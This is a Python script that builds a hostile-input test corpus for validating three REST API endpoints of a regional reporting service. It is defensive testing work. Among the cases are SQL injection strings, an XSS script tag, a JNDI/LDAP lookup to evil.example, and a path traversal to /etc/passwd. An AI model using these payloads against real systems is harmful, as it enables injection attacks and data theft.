#!/usr/bin/env python3
"""Writes the hostile-input corpus src/test/resources/hostile/{reports,roadmaps,snapshots}.json (read by HostileInputIT).

The JSON files are committed and are what the test reads; this script is how they are made: edit it, run
`python3 deploy/system-tests/hostile-corpus.py`, commit both. KNOWN marks the cases the services fail today (skipped
with the reason until fixed).
"""
import copy
import json
import os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "src", "test", "resources", "hostile") + os.sep

def broken_json(prefix, valid_text):
    texts = [
        ("empty body", ""),
        ("only whitespace", "   \n\t "),
        ("an opening brace only", "{"),
        ("a closing brace only", "}"),
        ("trailing comma", valid_text[:-1] + ",}"),
        ("single quotes", valid_text.replace('"', "'")),
        ("missing comma between fields", valid_text.replace(',', ' ', 1)),
        ("trailing garbage after the document", valid_text + "xyz"),
        ("two documents", valid_text + valid_text),
        ("unterminated string", '{"label": "unterminated'),
        ("NaN literal", '{"x": NaN}'),
        ("a comment inside", '/* comment */' + valid_text),
        ("truncated in the middle", valid_text[: len(valid_text) // 2]),
        ("a bare word", "hello"),
        ("deeply nested arrays", "${repeat:5000:[}${repeat:5000:]}"),
        ("deeply nested objects", '${repeat:3000:{"a":}1${repeat:3000:\x7d}'),
        ("invalid UTF-8 escape", '{"label": "\\uZZZZ"}'),
        ("control character in a string", '{"label": "a\u0001b"}'),
    ]
    return [{"name": f"{prefix}broken JSON: {n}", "raw": t, "expect": [400, 422]} for n, t in texts]

def content_types(prefix, valid_text, extra_ok=()):
    cases = []
    for ct in ["text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
               "multipart/form-data; boundary=xyz", "text/html", "application/octet-stream", "image/png"]:
        if ct in extra_ok:
            continue
        cases.append({"name": f"{prefix}wrong content type {ct}", "raw": valid_text, "contentType": ct, "expect": [415]})
    return cases

def transport(prefix, valid_text):
    """What the HTTP layer refuses before any resource: each must still be a problem+json naming the problem."""
    return [
        {"name": f"{prefix}request target over 4096 characters", "raw": valid_text,
         "query": "?padding=${repeat:5000:a}", "expect": [414], "mentions": ["4096"]},
        {"name": f"{prefix}headers over 16 KiB together", "raw": valid_text,
         "headers": {"X-Padding": "${repeat:17000:a}"}, "expect": [431], "mentions": ["headers"]},
        {"name": f"{prefix}a cross-site Origin", "raw": valid_text,
         "headers": {"Origin": "https://attacker.example"}, "expect": [403], "mentions": ["Origin"]},
    ]

# ---------------- reports ----------------
def report(**kw):
    r = {"region": "lappi", "reportedAt": "${now-1h}", "items": [{"subtask": "${subtask}", "status": "IN_PROGRESS", "comment": None, "supportNeeded": False}]}
    r.update(kw)
    return r

def item(**kw):
    i = {"subtask": "${subtask}", "status": "IN_PROGRESS"}
    i.update(kw)
    return i

R = []
valid = json.dumps(report())
R += broken_json("", valid)
R += [{"name": "JSON null", "raw": "null", "expect": [400, 422]},
      {"name": "JSON array instead of a report", "raw": "[]", "expect": [400]},
      {"name": "JSON string instead of a report", "raw": '"lappi"', "expect": [400]},
      {"name": "JSON number instead of a report", "raw": "42", "expect": [400]},
      {"name": "JSON true instead of a report", "raw": "true", "expect": [400]}]
R += content_types("", valid)
R += transport("", valid)
def rc(name, body, expect, mentions=None, **kw):
    c = {"name": name, "json": body, "expect": expect}
    if mentions: c["mentions"] = mentions
    c.update(kw)
    R.append(c)
# wrong types
rc("items is an object", report(items={"subtask": "${subtask}"}), [400], ["items"])
rc("items is a string", report(items="JO-E-5.8"), [400], ["items"])
rc("items is a number", report(items=5), [400], ["items"])
rc("an item is a string", report(items=["${subtask}"]), [400])
rc("an item is an array", report(items=[["${subtask}", "DONE"]]), [400])
rc("an item is null", report(items=[None]), [400, 422], ["0"])
rc("status is an object", report(items=[item(status={"value": "DONE"})]), [400], ["status"])
rc("status is an array", report(items=[item(status=["DONE"])]), [400], ["status"])
rc("comment is an array", report(items=[item(comment=["a"])]), [400], ["comment"])
rc("comment is an object", report(items=[item(comment={"fi": "a"})]), [400], ["comment"])
rc("supportNeeded is a word", report(items=[item(supportNeeded="yes")]), [400], ["supportNeeded"])
rc("supportNeeded is an object", report(items=[item(supportNeeded={})]), [400], ["supportNeeded"])
rc("reportedAt is an object", report(reportedAt={"date": "2021-10-15"}), [400], ["reportedAt"])
rc("reportedAt is an array", report(reportedAt=[2021, 10, 15]), [400, 422], ["reportedAt"])
rc("region is an object", report(region={"code": "lappi"}), [400], ["region"])
rc("region is an array", report(region=["lappi"]), [400, 403, 422], ["region"])
rc("subtask is an object", report(items=[item(subtask={"id": "x"})]), [400], ["subtask"])
rc("status is a number", report(items=[item(status=3)]), [400, 422], ["status"])
rc("reportedAt is a number", report(reportedAt=1634288400), [400, 422], ["reportedAt"])
# missing fields
rc("empty object", {}, [400, 403, 422])
rc("no items", {"region": "lappi", "reportedAt": "${now-1h}"}, [422], ["items"])
rc("empty items", report(items=[]), [422], ["items"])
rc("items null", report(items=None), [422], ["items"])
rc("no region", {"reportedAt": "${now-1h}", "items": [item()]}, [422], ["region"])
rc("region null", report(region=None), [422], ["region"])
rc("region empty", report(region=""), [403, 422])
rc("no reportedAt anywhere", {"region": "lappi", "items": [item()]}, [422], ["reportedAt"])
rc("reportedAt null", report(reportedAt=None), [422], ["reportedAt"])
rc("item without subtask", report(items=[{"status": "DONE"}]), [422], ["subtask"])
rc("item without status", report(items=[{"subtask": "${subtask}"}]), [422], ["status"])
rc("item with status null", report(items=[item(status=None)]), [422], ["status"])
rc("item with subtask null", report(items=[item(subtask=None)]), [422], ["subtask"])
rc("empty item", report(items=[{}]), [422], ["subtask"])
rc("second of two items without status", report(items=[item(), {"subtask": "${subtask2}"}]), [422], ["1", "status"])
# unknown subtask / unit
for s in ["XX-Y-1.1", "JO-E-999.9", "JO-E-5", "JO-E", "JO", "jo-e-5.8x", "", " ", "HTT-A-1.1 ", "\u00e4\u00e4\u00e4", "${repeat:200:A}"]:
    rc(f"unknown subtask {s[:20]!r}", report(items=[item(subtask=s)]), [422], ["subtask"])
rc("a valid and an unknown subtask: nothing stored", report(items=[item(), item(subtask="NO-SUCH-1.1")]), [422], ["1", "subtask"])
rc("unknown status DONEISH", report(items=[item(status="DONEISH")]), [422], ["status"])
rc("status in lower case", report(items=[item(status="done")]), [422], ["status"])
rc("status in Finnish", report(items=[item(status="VALMIS")]), [422], ["status"])
rc("status empty", report(items=[item(status="")]), [422], ["status"])
rc("status with spaces", report(items=[item(status=" DONE ")]), [422], ["status"])
rc("another unit's region in the body", report(region="kainuu"), [403], None)
rc("an unknown region in the body", report(region="atlantis"), [403, 422])
rc("an unknown region with its own token", report(region="atlantis"), [422], ["region"], **{"as": "reporter:atlantis"})
rc("region in upper case", report(region="LAPPI"), [403, 422])
rc("subtask of the Uusimaa units only", report(items=[item(subtask="${uusimaaOnly}")]), [422], ["subtask"])
rc("Uusimaa-only subtask among valid ones", report(items=[item(), item(subtask="${uusimaaOnly}"), item(subtask="${subtask2}")]), [422], ["1", "subtask"])
# future and bad dates
for name, at in [("a day in the future", "${now+1d}"), ("an hour in the future", "${now+1h}"), ("year 9999", "9999-12-31T23:59:59Z"),
                 ("year 2100", "2100-01-01T00:00:00Z")]:
    rc(f"reportedAt {name}", report(reportedAt=at), [422], ["reportedAt"])
    rc(f"item reportedAt {name}", report(items=[item(reportedAt=at)]), [400, 422], ["reportedAt"])
for name, at in [("month 13", "2021-13-01T00:00:00Z"), ("February 30", "2021-02-30T09:00:00Z"), ("a date without time", "2021-10-15"),
                 ("no offset", "2021-10-15T09:00:00"), ("a word", "yesterday"), ("empty", ""), ("Finnish format", "15.10.2021 klo 9.00"),
                 ("epoch digits", "1634288400"), ("hour 25", "2021-10-15T25:00:00Z")]:
    rc(f"reportedAt invalid: {name}", report(reportedAt=at), [400, 422], ["reportedAt"])
# enormous
rc("comment one character too long", report(items=[item(comment="${repeat:2001:k}")]), [422], ["comment"])
rc("comment of 100 000 characters", report(items=[item(comment="${repeat:100000:k}")]), [400, 413, 422], ["comment"])
rc("body over 4 MB", report(items=[item(comment="${repeat:5000000:k}")]), [413])
rc("5001 items", report(items="${items:5001}"), [413, 422], ["5001"])
rc("20000 items", report(items="${items:20000}"), [413, 422])
rc("region of 100 000 characters", report(region="${repeat:100000:a}"), [400, 403, 413, 422])
rc("subtask id of 100 000 characters", report(items=[item(subtask="${repeat:100000:A}")]), [400, 413, 422])
rc("status of 100 000 characters", report(items=[item(status="${repeat:100000:D}")]), [400, 413, 422])
rc("Idempotency-Key of 201 characters", report(), [400, 422], ["Idempotency-Key"], headers={"Idempotency-Key": "${repeat:201:k}"})
# duplicates
rc("the same subtask twice", report(items=[item(), item(status="DONE")]), [422], ["1", "subtask"])
rc("the same subtask three times", report(items=[item(), item(), item()]), [422], ["2"])
rc("the same subtask twice among others", report(items=[item(), item(subtask="${subtask2}"), item(status="DONE")]), [422], ["2"])
rc("duplicates and an unknown subtask: every problem named", report(items=[item(), item(), item(subtask="NOPE-1.1")]), [422], ["1", "2"])
# SQL and script strings in identifiers
for v in ["lappi'; drop table report; --", "lappi' or '1'='1", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "lappi\u0000"]:
    rc(f"hostile region {v[:24]!r}", report(region=v), [400, 403, 422])
    rc(f"hostile subtask {v[:24]!r}", report(items=[item(subtask=v)]), [400, 422], ["subtask"])
    rc(f"hostile status {v[:24]!r}", report(items=[item(status=v)]), [400, 422], ["status"])
rc("hostile reportedAt", report(reportedAt="2021-10-15T09:00:00Z'; drop table report; --"), [422], ["reportedAt"])
rc("comment with a NUL character", report(items=[item(comment="before\u0000after")]), [400, 422], ["comment"])
rc("script in an overlong comment", report(items=[item(comment="<script>" + "${repeat:2100:x}" + "</script>")]), [422], ["comment"])
# found by the outside probe (issue "Hardening"): each was a 500, a silent change or a lenient read
for name, at in [("in year 0", "0000-01-01T00:00:00Z"), ("in a negative year", "-0001-01-01T00:00:00Z"),
                 ("far in the past", "-4713-01-01T00:00:00Z")]:
    rc(f"reportedAt {name}", report(reportedAt=at), [422], ["reportedAt"])
    rc(f"item reportedAt {name}", report(items=[item(reportedAt=at)]), [422], ["reportedAt"])
rc("reportedAt finer than a microsecond", report(reportedAt="2021-10-15T09:00:00.000000001Z"), [422], ["reportedAt", "microsecond"])
rc("item reportedAt finer than a microsecond", report(items=[item(reportedAt="2021-10-15T09:00:00.1234567Z")]), [422], ["reportedAt"])
R.append({"name": "comment with a lone surrogate", "raw": '{"region": "lappi", "reportedAt": "${now-1h}", "items": [{"subtask": "${subtask}", "status": "DONE", "comment": "a\\ud800b"}]}', "expect": [422], "mentions": ["comment"]})
R.append({"name": "comment ending in a lone high surrogate", "raw": '{"region": "lappi", "reportedAt": "${now-1h}", "items": [{"subtask": "${subtask}", "status": "DONE", "comment": "ok \\ud83d"}]}', "expect": [422], "mentions": ["comment"]})
R.append({"name": "region given twice", "raw": '{"region": "lappi", "region": "kanta-hame", "reportedAt": "${now-1h}", "items": [{"subtask": "${subtask}", "status": "DONE"}]}', "expect": [400], "mentions": ["region"]})
R.append({"name": "status given twice in an item", "raw": '{"region": "lappi", "reportedAt": "${now-1h}", "items": [{"subtask": "${subtask}", "status": "DONE", "status": "DELAYED"}]}', "expect": [400], "mentions": ["status"]})
rc("supportNeeded is the text true", report(items=[item(supportNeeded="true")]), [400], ["supportNeeded"])
rc("supportNeeded is the number 1", report(items=[item(supportNeeded=1)]), [400], ["supportNeeded"])
rc("comment is the boolean true", report(items=[item(comment=True)]), [400], ["comment"])
rc("comment is a number", report(items=[item(comment=5)]), [400], ["comment"])
rc("5000 copies of one item", report(items=[item() for _ in range(5000)]), [422], ["first 100"])

reports = {"endpoint": "POST /api/v1/reports", "service": "status-service", "database": "status",
           "tables": ["report", "current_status", "idempotency_record", "outbox"], "as": "reporter:lappi", "cases": R}

# ---------------- roadmaps ----------------
def sub(number="1.1", **kw):
    s = {"number": number, "name": {"fi": "Osatehtävä"}, "critical": True, "schedule": {"from": "2021-07-01", "to": "2021-12-31"}, "appliesTo": None}
    s.update(kw); return s
def doc():
    return {"label": "hostile", "groups": [
        {"code": g, "name": {"fi": "Ryhmä " + g}, "entities": [{"code": "A", "name": {"fi": "Kokonaisuus"}, "tasks": [
            {"number": 1, "name": {"fi": "Tehtävä"}, "subtasks": [sub()]}]}]} for g in ["HTT", "JO", "PJ", "YP", "ICT"]]}
def mut(f):
    d = doc(); f(d); return d
S = lambda d: d["groups"][0]["entities"][0]["tasks"][0]["subtasks"][0]
T = lambda d: d["groups"][0]["entities"][0]["tasks"][0]
E = lambda d: d["groups"][0]["entities"][0]
G = lambda d: d["groups"][0]
P = []
valid = json.dumps(doc())
P += broken_json("", valid)
P += [{"name": "JSON null", "raw": "null", "expect": [400, 422]},
      {"name": "JSON array instead of a document", "raw": "[]", "expect": [400]},
      {"name": "JSON string instead of a document", "raw": '"roadmap"', "expect": [400]}]
P += content_types("", valid)
P += transport("", valid)
P.append({"name": "CSV content type with JSON text", "raw": valid, "contentType": "text/csv", "expect": [400, 422]})
P.append({"name": "CSV content type with garbage", "raw": "a;b;c\n;;;\n\u0000", "contentType": "text/csv", "expect": [400, 422]})
def pc(name, f, expect, mentions=None):
    c = {"name": name, "json": mut(f), "expect": expect}
    if mentions: c["mentions"] = mentions
    P.append(c)
def setk(getter, k, v):
    return lambda d: getter(d).__setitem__(k, v)
def delk(getter, k):
    return lambda d: getter(d).pop(k)
pc("label missing", lambda d: d.pop("label"), [422], ["label"])
pc("label empty", setk(lambda d: d, "label", ""), [422], ["label"])
pc("label blank", setk(lambda d: d, "label", "   "), [422], ["label"])
pc("label is an object", setk(lambda d: d, "label", {"x": 1}), [400], ["label"])
pc("label of 1 000 000 characters", setk(lambda d: d, "label", "${repeat:1000000:L}"), [400, 413, 422], ["label"])
pc("label with a NUL character", setk(lambda d: d, "label", "before\u0000after"), [400, 422], ["label"])
pc("subtask name with a NUL character", setk(S, "name", {"fi": "before\u0000after"}), [400, 422], ["name"])
pc("groups missing", lambda d: d.pop("groups"), [422], ["groups"])
pc("groups empty", setk(lambda d: d, "groups", []), [422], ["groups"])
pc("groups is a string", setk(lambda d: d, "groups", "HTT"), [400], ["groups"])
pc("a group is null", lambda d: d["groups"].append(None), [422], ["groups"])
pc("unknown group code", setk(G, "code", "XX"), [422], ["code"])
pc("group code in lower case", setk(G, "code", "htt"), [422], ["code"])
pc("group code missing", delk(G, "code"), [422], ["code"])
pc("group code is a number", setk(G, "code", {"n": 1}), [400], ["code"])
pc("the same group twice", lambda d: d["groups"].append(copy.deepcopy(d["groups"][0])), [422], ["groups/5"])
pc("group name missing", delk(G, "name"), [422], ["name"])
pc("group name.fi missing", setk(G, "name", {"sv": "Grupp"}), [422], ["name"])
pc("group name is a string", setk(G, "name", "Ryhmä"), [400], ["name"])
pc("entities missing", delk(G, "entities"), [422], ["entities"])
pc("entities empty", setk(G, "entities", []), [422], ["entities"])
pc("entities is an object", setk(G, "entities", {"code": "A"}), [400], ["entities"])
for code in ["AA", "1", "", "a", "Ä"]:
    pc(f"entity code {code!r}", setk(E, "code", code), [422], ["code"])
pc("entity code missing", delk(E, "code"), [422], ["code"])
pc("the same entity twice", lambda d: G(d)["entities"].append(copy.deepcopy(E(d))), [422], ["entities/1"])
pc("entity appliesTo an unknown unit", setk(E, "appliesTo", ["atlantis"]), [422], ["atlantis"])
pc("entity appliesTo is a string", setk(E, "appliesTo", "helsinki"), [400], ["appliesTo"])
for n in [0, -1, -2147483648]:
    pc(f"task number {n}", setk(T, "number", n), [422], ["number"])
pc("task number is a word", setk(T, "number", "five"), [400], ["number"])
pc("task number too large for an integer", setk(T, "number", 99999999999999999999), [400, 422], ["number"])
pc("task number missing", delk(T, "number"), [422], ["number"])
pc("the same task twice", lambda d: E(d)["tasks"].append(copy.deepcopy(T(d))), [422], ["tasks/1"])
pc("tasks is a string", setk(E, "tasks", "1"), [400], ["tasks"])
pc("subtask of another task's number", setk(S, "number", "2.1"), [422], ["number"])
for n in ["abc", "", "1", "1.", ".1", "1.1.1", "1.x", "1,1"]:
    pc(f"subtask number {n!r}", setk(S, "number", n), [422], ["number"])
pc("subtask number missing", delk(S, "number"), [422], ["number"])
pc("the same subtask twice", lambda d: T(d)["subtasks"].append(copy.deepcopy(S(d))), [422], ["subtasks/1"])
pc("critical missing", delk(S, "critical"), [422], ["critical"])
pc("critical is a word", setk(S, "critical", "yes"), [400], ["critical"])
pc("critical is an object", setk(S, "critical", {}), [400], ["critical"])
pc("schedule missing", delk(S, "schedule"), [422], ["schedule"])
pc("schedule is a string", setk(S, "schedule", "Q3-Q4/2021"), [400], ["schedule"])
pc("schedule ends before it starts", setk(S, "schedule", {"from": "2021-12-31", "to": "2021-07-01"}), [422], ["schedule"])
pc("schedule without from", setk(S, "schedule", {"to": "2021-07-01"}), [422], ["from"])
pc("schedule without to", setk(S, "schedule", {"from": "2021-07-01"}), [422], ["to"])
for v in ["2021-02-30", "2021-13-01", "Q3/2021", "01.07.2021", ""]:
    pc(f"schedule.from {v!r}", setk(S, "schedule", {"from": v, "to": "2021-12-31"}), [400, 422], ["from"])
pc("appliesTo an unknown unit", setk(S, "appliesTo", ["atlantis"]), [422], ["atlantis"])
pc("appliesTo a unit twice", setk(S, "appliesTo", ["lappi", "lappi"]), [422], ["lappi"])
pc("appliesTo a unit in upper case", setk(S, "appliesTo", ["LAPPI"]), [422], ["appliesTo"])
pc("appliesTo is a string", setk(S, "appliesTo", "lappi"), [400], ["appliesTo"])
pc("appliesTo holds a number", setk(S, "appliesTo", [{"code": "lappi"}]), [400], ["appliesTo"])
pc("appliesTo outside the entity's units", lambda d: (E(d).__setitem__("appliesTo", ["helsinki"]), S(d).__setitem__("appliesTo", ["lappi"])), [422], ["appliesTo"])
pc("subtask name missing", delk(S, "name"), [422], ["name"])
pc("subtask name.fi empty", setk(S, "name", {"fi": ""}), [422], ["name"])
pc("subtask name is a number", setk(S, "name", {"fi": {"x": 1}}), [400], ["name"])
for v in ["JO'; drop table roadmap_version; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}"]:
    pc(f"hostile group code {v[:20]!r}", setk(G, "code", v), [422], ["code"])
    pc(f"hostile entity code {v[:20]!r}", setk(E, "code", v), [422], ["code"])
    pc(f"hostile subtask number {v[:20]!r}", setk(S, "number", v), [422], ["number"])
    pc(f"hostile unit in appliesTo {v[:20]!r}", setk(S, "appliesTo", [v]), [422], ["appliesTo"])
P.append({"name": "body of 20 MB", "json": mut(setk(lambda d: d, "label", "${repeat:20000000:L}")), "expect": [413]})

roadmaps = {"endpoint": "POST /api/v1/roadmaps", "service": "roadmap-service", "database": "roadmap",
            "tables": ["roadmap_version", "roadmap_subtask", "outbox"], "as": "roadmap-admin", "cases": P}

# ---------------- snapshots ----------------
def snap(**kw):
    s = {"name": "hostile round", "window": {"from": "2021-04-01", "to": "2021-12-31"}, "deadline": "2023-01-01", "at": "2021-10-31T23:59:59Z"}
    s.update(kw); return s
N = []
valid = json.dumps(snap())
N += broken_json("", valid)
N += [{"name": "JSON null", "raw": "null", "expect": [400, 422]},
      {"name": "JSON array instead of a snapshot", "raw": "[]", "expect": [400]}]
N += content_types("", valid)
N += transport("", valid)
def sc(name, body, expect, mentions=None):
    c = {"name": name, "json": body, "expect": expect}
    if mentions: c["mentions"] = mentions
    N.append(c)
d = snap(); d.pop("name"); sc("name missing", d, [422], ["name"])
sc("name empty", snap(name=""), [422], ["name"])
sc("name blank", snap(name="   "), [422], ["name"])
sc("name only punctuation", snap(name="!!!///"), [422], ["name"])
sc("name with a NUL character", snap(name="before\u0000after"), [400, 422], ["name"])
sc("name is an object", snap(name={"fi": "x"}), [400], ["name"])
sc("name of 100 000 characters", snap(name="${repeat:100000:n}"), [400, 413, 422], ["name"])
d = snap(); d.pop("window"); sc("window missing", d, [422], ["window"])
sc("window is a string", snap(window="2021"), [400], ["window"])
sc("window ends before it starts", snap(window={"from": "2021-12-31", "to": "2021-04-01"}), [422], ["window"])
sc("window without from", snap(window={"to": "2021-12-31"}), [422], ["from"])
sc("window without to", snap(window={"from": "2021-04-01"}), [422], ["to"])
for v in ["2021-02-30", "2021-13-01", "Q2/2021", "", "2021-04-01'; drop table snapshot; --"]:
    sc(f"window.from {v[:20]!r}", snap(window={"from": v, "to": "2021-12-31"}), [400, 422], ["from"])
for v in ["2023-02-30", "1.1.2023", "<script>"]:
    sc(f"deadline {v!r}", snap(deadline=v), [400, 422], ["deadline"])
sc("deadline is an object", snap(deadline={"y": 2023}), [400], ["deadline"])
for v in ["${now+1d}", "9999-12-31T23:59:59Z"]:
    sc(f"at in the future {v}", snap(at=v), [422], ["at"])
for v in ["now", "2021-10-31", "31.10.2021", "2021-10-31T25:00:00Z"]:
    sc(f"at invalid {v!r}", snap(at=v), [400, 422], ["at"])
sc("at is a number", snap(at={"t": 1}), [400], ["at"])
sc("body of 20 MB", snap(name="${repeat:20000000:n}"), [413])
for v in ["-4713-01-01T00:00:00Z", "+300000-01-01T00:00:00Z", "0000-01-01T00:00:00Z"]:
    sc(f"at out of range {v}", snap(at=v), [400, 422], ["at"])
for v in ["+999999999-12-31", "-999999999-01-01", "0000-01-01"]:
    sc(f"deadline out of range {v}", snap(deadline=v), [400, 422], ["deadline"])
    sc(f"window.to out of range {v}", snap(window={"from": "2021-04-01", "to": v}), [400, 422], ["to"])
N.append({"name": "name given twice", "raw": '{"name": "one round", "name": "another", "window": {"from": "2021-04-01", "to": "2021-12-31"}}', "expect": [400], "mentions": ["name"]})
sc("name is a number", snap(name=5), [400], ["name"])
snapshots = {"endpoint": "POST /api/v1/situation/snapshots", "service": "situation-service", "database": "situation",
             "tables": ["snapshot"], "as": "roadmap-admin", "cases": N}

# Fixed since the corpus found them (trailing JSON, NUL characters, unbounded label and round names, 400 without a
# problem body in situation-service, 413 without a problem body in every service); cases the services still get wrong
# are marked here as (corpus, case name): reason, and skipped with that reason.
KNOWN = {}
for name, data in [("reports", reports), ("roadmaps", roadmaps), ("snapshots", snapshots)]:
    for c in data["cases"]:
        if (name, c["name"]) in KNOWN:
            c["knownIssue"] = KNOWN[(name, c["name"])]
    names = [c["name"] for c in data["cases"]]
    assert len(names) == len(set(names)), [n for n in names if names.count(n) > 1]
    with open(OUT + name + ".json", "w") as f:
        head = {k: v for k, v in data.items() if k != "cases"}
        f.write(json.dumps(head, ensure_ascii=False)[:-1] + ',\n "cases": [\n')
        f.write(",\n".join("  " + json.dumps(c, ensure_ascii=False) for c in data["cases"]))
        f.write("\n ]\n}\n")
    print(name, len(data["cases"]))
print("total", len(R) + len(P) + len(N))
